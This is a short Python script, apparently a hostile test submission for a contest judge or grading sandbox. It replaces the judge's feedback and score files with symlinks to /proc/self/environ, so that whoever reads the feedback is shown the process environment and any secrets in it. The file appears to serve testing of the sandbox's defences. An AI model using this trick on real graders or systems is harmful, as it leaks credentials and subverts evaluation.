# hostile: leaves links and devices of all names of feedback, which whoever reads may follow; it is read elsewhere.
import os

os.chdir("/box")  # the working directory itself cannot be written to
os.makedirs("feedback", exist_ok=True)
for name in ("judgemessage.txt", "teammessage.txt", "score.txt", "nextpass.in"):
    for place in (".", "feedback"):
        os.symlink("/proc/self/environ", f"{place}/{name}")
print("-1")
